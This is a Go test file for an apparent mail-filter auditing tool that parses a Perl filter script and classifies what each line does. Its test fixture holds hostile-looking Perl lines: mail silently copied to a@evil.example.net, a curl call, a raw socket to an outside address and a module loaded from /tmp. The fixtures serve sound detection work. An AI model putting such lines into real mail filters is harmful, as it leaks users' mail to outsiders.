package mta_test

import (
	"testing"

	"github.com/google/go-cmp/cmp"

	"waxseal"
	"waxseal/internal/calls"
	"waxseal/internal/mask"
	"waxseal/internal/mta"
	"waxseal/internal/snapshot"
)

const codePath = waxseal.Path("/etc/mail/filter.pl")

func codeHooks(t *testing.T, text string) []waxseal.Hook {
	t.Helper()
	tree := snapshot.Files(map[string]string{string(codePath): text, "/usr/bin/curl": "x", "/tmp/x.pl": "1;"})
	b := mta.NewBook("filter", tree, mask.New([]byte("key")))
	b.Code(mta.Code{Path: codePath, Text: text, Language: calls.Perl, Domains: mta.NewDomains("example.test"), Directive: "filter.pl", Stage: waxseal.StageData, RunsAs: "filter",
		Runs: "The filter runs it for each message", Words: calls.Words{
			"add_recipient": {Kind: waxseal.KindCopy, Effects: []waxseal.Effect{waxseal.Copy}, Target: waxseal.TargetAddress},
			"discard":       {Kind: waxseal.KindDiscard, Effects: []waxseal.Effect{waxseal.Drop}, Target: waxseal.TargetText},
		}})
	return b.Result().Hooks
}

func TestCode(t *testing.T) {
	hooks := codeHooks(t, "# x\nadd_recipient('a@evil.example.net');\nadd_recipient('a@example.test');\nsystem('curl x');\nIO::Socket::INET->new('203.0.113.9:25');\nrequire '/tmp/x.pl';\ndiscard();\n")
	type seen struct {
		Line   int
		Kind   waxseal.HookKind
		Target waxseal.Target
		Part   waxseal.Path
		Seen   string
	}
	var got []seen
	for _, h := range hooks {
		got = append(got, seen{h.Source.Line, h.Kind, h.Target, h.Closure[0].Path, h.Modifiers["seen"]})
	}
	want := []seen{
		{1, waxseal.KindScript, waxseal.Target{Type: waxseal.TargetFile, Value: string(codePath)}, codePath, ""},
		{2, waxseal.KindCopy, waxseal.Target{Type: waxseal.TargetAddress, Value: "a@evil.example.net", Remote: true}, codePath, "inferred"},
		{3, waxseal.KindCopy, waxseal.Target{Type: waxseal.TargetAddress, Value: "a@example.test"}, codePath, "inferred"},
		{4, waxseal.KindExpansionExec, waxseal.Target{Type: waxseal.TargetCommand, Value: "curl x"}, "/usr/bin/curl", "inferred"},
		{5, waxseal.KindPolicy, waxseal.Target{Type: waxseal.TargetSocket, Value: "inet:203.0.113.9:25", Remote: true}, codePath, "inferred"},
		{6, waxseal.KindModule, waxseal.Target{Type: waxseal.TargetFile, Value: "/tmp/x.pl"}, "/tmp/x.pl", "inferred"},
		{7, waxseal.KindDiscard, waxseal.Target{Type: waxseal.TargetText, Value: "discard()"}, codePath, "inferred"},
	}
	if d := cmp.Diff(want, got); d != "" {
		t.Error(d)
	}
	if want := "The filter runs it for each message, and line 2 of /etc/mail/filter.pl copies mail to a@evil.example.net outside this host's domains."; hooks[1].Explain != want {
		t.Errorf("explain %q, want %q", hooks[1].Explain, want)
	}
}

// TestCodeComment: comments and layout leave every hook as it was but for its line.
func TestCodeComment(t *testing.T) {
	before, after := codeHooks(t, "discard();\n"), codeHooks(t, "# new\n\n=pod\n\nx\n\n=cut\n\n  discard( ) ; # there\n")
	if before[0].Modifiers["code"] != after[0].Modifiers["code"] || before[1].ID != after[1].ID {
		t.Errorf("%+v and %+v", before, after)
	}
	if other := codeHooks(t, "discard(1);\n"); before[0].Modifiers["code"] == other[0].Modifiers["code"] {
		t.Error("other code has the same digest")
	}
}
